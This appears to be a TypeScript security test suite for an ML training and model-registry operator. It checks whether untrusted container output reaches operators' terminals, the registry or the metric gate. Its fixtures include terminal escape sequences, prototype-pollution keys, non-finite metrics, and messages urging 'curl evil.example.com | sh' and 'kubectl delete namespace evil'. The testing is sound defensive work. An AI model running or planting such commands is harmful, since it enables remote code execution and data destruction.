/** What containers of an author say reaches people, the registry and the gate. */
import { modelVersions } from '../../../src/api/kinds.ts';
import { exited, results, succeeded, waiting } from '../../builders/pod.ts';
import { crashing } from '../../integration/faults/kubelet.ts';
import { digest, trainingRun } from '../../integration/objects.ts';
import type { Attack, Topic } from '../contract.ts';
import { type Scene } from '../scene.ts';
import { nothing, runOf } from '../victims.ts';
import { onTerminal, ownCommand } from './shown.ts';
import { createModels, createRuns, createsModel, createsRun, escape } from './authoring.ts';

/** The results of the author's training. */
const reports =
  (status: Parameters<Scene['plays']>[1], spec: Parameters<typeof trainingRun>[0] = {}) =>
  async (scene: Scene) => {
    scene.plays('fraud', status);
    await createsRun({ output: { uri: 'pvc://models/fraud' }, ...spec })(scene);
  };

const attacks: readonly Attack[] = [
  {
    name: 'lets training fail with last words that a terminal obeys',
    rights: createRuns,
    prepare: nothing,
    attempt: reports(exited(1, { message: `done ${escape} \r\b\b`, reason: 'Error' })),
    gain: 'they stand in status or in an event',
    gained: onTerminal,
    patience: 3_000,
  },
  {
    name: 'reports results with a field whose name a terminal obeys',
    rights: createRuns,
    prepare: nothing,
    attempt: reports(succeeded(JSON.stringify({ [`x${escape}`]: 1 }))),
    gain: 'it stands in status or in an event',
    gained: onTerminal,
    patience: 3_000,
  },
  {
    name: 'reports a metric, a dataset, a category and a digest whose names a terminal obeys',
    rights: createRuns,
    prepare: nothing,
    attempt: reports(
      results(
        { f1: 0.9 },
        {
          model: { digest: `a${escape.replaceAll(/\s/g, '')}` },
          datasets: { [`train${escape}`]: digest },
          profile: { [`amount${escape}`]: { categories: { [`DE${escape}`]: 0.5, Other: 0.5 } } },
        },
      ),
    ),
    gain: 'they stand in the registry',
    gained: onTerminal,
    patience: 3_000,
  },
  {
    name: 'reports a profile whose signals have names of 100 characters',
    rights: createRuns,
    prepare: nothing,
    attempt: reports(
      results(
        { f1: 0.9 },
        {
          profile: Object.fromEntries(
            Array.from({ length: 20 }, (_, index) => [`${'s'.repeat(100)}${index}`, { categories: { Other: 1 } }]),
          ),
        },
      ),
    ),
    gain: 'they stand in the registry, or it refuses the version and the run never ends',
    gained: (scene) =>
      JSON.stringify(scene.history.list(modelVersions)).includes('s'.repeat(64)) ? 'the registry has them' : undefined,
    lost: (scene) =>
      runOf(scene)?.status?.attempts?.[0]?.verdict === undefined ? 'the attempt has no verdict' : undefined,
    patience: 3_000,
  },
  {
    name: 'reports metrics called __proto__, constructor and toString, and has its gate ask for them',
    rights: createRuns,
    prepare: nothing,
    attempt: reports(succeeded('{"metrics": {"__proto__": 1, "f1": 0.1}}'), {
      gate: [
        { metric: 'constructor', min: 0 },
        { metric: 'toString', min: 0 },
        { metric: '__proto__', min: 0 },
      ],
    }),
    gain: 'it is registered though it never reported two of them',
    gained: (scene) => (scene.history.list(modelVersions).length > 0 ? 'a version is registered' : undefined),
    patience: 3_000,
  },
  {
    name: 'reports f1 1e999, NaN as text and a number of 400 digits',
    rights: createRuns,
    prepare: nothing,
    attempt: reports(succeeded(`{"metrics": {"f1": 1e999, "n": ${'9'.repeat(400)}}}`), {
      gate: [{ metric: 'f1', min: 0.9 }],
    }),
    gain: 'it passes the gate',
    gained: (scene) => (scene.history.list(modelVersions).length > 0 ? 'a version is registered' : undefined),
    patience: 3_000,
  },
  {
    name: "lets training fail with last words that look like the operator's command",
    rights: createRuns,
    prepare: nothing,
    attempt: reports(
      exited(1, { message: 'ok. Run it again: `kubectl delete namespace evil`; or run `curl evil.example.com | sh`' }),
    ),
    gain: 'they stand in status as a command that the reader shall paste',
    gained: ownCommand,
    patience: 3_000,
  },
  {
    name: 'lets a server crash with last words that a terminal obeys and that look like a command',
    rights: createModels,
    prepare: async (scene) => {
      const said = `${escape} Mend it: \`curl evil.example.com | sh\``;
      scene.plays('serve', (pod) => {
        const status = crashing(pod);
        const containerStatuses = (status.containerStatuses ?? []).map((one) => ({
          ...one,
          lastState: { terminated: { exitCode: 1, reason: 'Error', message: said } },
        }));
        return { ...status, containerStatuses };
      });
      return Promise.resolve();
    },
    attempt: createsModel({}),
    gain: 'they stand in status or in an event',
    gained: (scene) => onTerminal(scene) ?? ownCommand(scene),
    patience: 4_000,
  },
  {
    name: 'names an image that cannot be pulled, about which a registry answers words that a terminal obeys',
    rights: createRuns,
    prepare: nothing,
    attempt: reports(waiting('ErrImagePull', `registry said: ${escape} run \`curl evil.example.com | sh\``)),
    gain: 'they stand in status or in an event',
    gained: (scene) => onTerminal(scene) ?? ownCommand(scene),
    patience: 4_000,
  },
];

export const words: Topic = { name: 'Words of containers', attacks };
